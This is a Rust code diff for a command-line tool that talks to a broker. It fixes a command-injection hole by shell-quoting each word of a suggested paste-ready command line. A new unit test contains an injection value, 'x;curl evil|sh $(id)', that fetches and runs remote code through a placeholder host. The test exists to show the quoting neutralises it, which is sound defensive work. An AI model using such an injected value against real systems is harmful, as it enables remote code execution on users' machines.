@@ -283,13 +283,20 @@ pub fn talking_to(target: &crate::config::Target) {
     let _ = TARGET.set(target.clone());
 }
 
-/// The command line that runs `rest` (`cancel req_1`) against the broker
-/// this command talks to, for a message that says what to run next: a
-/// bare `hoist` might pick another profile's broker, where a `revoke`
-/// finds nothing and the grant stays live.
-pub fn hoist(rest: &str) -> String {
+/// The command line that runs `words` (`["cancel", "req_1"]`) against the
+/// broker this command talks to, for a message that says what to run
+/// next: a bare `hoist` might pick another profile's broker, where a
+/// `revoke` finds nothing and the grant stays live. Each word is quoted
+/// for a POSIX shell: an id is the broker's text, and the line is meant
+/// to be pasted.
+pub fn hoist(words: &[&str]) -> String {
+    let rest = words
+        .iter()
+        .map(|word| crate::text::shell_word(word))
+        .collect::<Vec<_>>()
+        .join(" ");
     match TARGET.get() {
-        Some(target) => target.command(rest),
+        Some(target) => target.command(&rest),
         None => format!("hoist {rest}"),
     }
 }
@@ -345,6 +352,17 @@ async fn silent_events() -> impl axum::response::IntoResponse {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// An id in a command line offered for pasting is the broker's text:
+    /// it is quoted, so that pasting runs `hoist` and nothing else.
+    #[test]
+    fn ids_in_suggested_command_lines_are_quoted_for_the_shell() {
+        assert_eq!(hoist(&["cancel", "req_1"]), "hoist cancel req_1");
+        assert_eq!(
+            hoist(&["revoke", "x;curl evil|sh $(id)"]),
+            "hoist revoke 'x;curl evil|sh $(id)'"
+        );
+    }
 
     /// A timeout too long for a deadline is refused as input, not a panic
     /// after the request was filed.
